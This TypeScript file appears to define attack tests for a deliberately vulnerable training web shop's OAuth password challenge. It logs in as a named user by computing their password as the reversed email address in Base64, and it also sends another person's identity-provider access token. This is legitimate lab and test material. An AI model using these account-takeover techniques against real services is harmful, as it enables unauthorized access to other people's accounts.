import type { Attack, Tools } from '#lab'

const EMAIL = 'bjoern.kimminich@gmail.com'

/** What the sign-in page does with an address to get a password, as its script says. */
function passwordFor(email: string): string {
  return btoa([...email].reverse().join(''))
}

async function logIn({ http, expect }: Tools, more: object = {}): Promise<void> {
  const login = { email: EMAIL, password: passwordFor(EMAIL), ...more }
  const answer = await http.post('/rest/user/login', login)
  expect(answer.status === 200, `the login answered with ${answer.status}`)
}

/** Signs in with the identity provider as Olive, who may be anybody. */
async function olivesToken({ http, expect }: Tools): Promise<string> {
  const consent = { person: '403001', consent: 'yes', redirect_uri: '' }
  const answer = await http.post('/oauth/authorize', consent)
  const token = /access_token=([^&]+)/.exec(answer.headers.location ?? '')?.[1] ?? ''
  expect(token !== '', `the identity provider answered with ${answer.status}`)
  return token
}

const challenge = 'oauthUserPasswordChallenge'

export const attacks: Attack[] = [
  {
    challenge,
    name: 'the address backwards, in Base64, typed into the login form',
    run: (tools) => logIn(tools),
  },
  {
    challenge,
    name: 'the same with somebody else’s token from the identity provider',
    run: async (tools) => logIn(tools, { oauth: true, accessToken: await olivesToken(tools) }),
  },
]
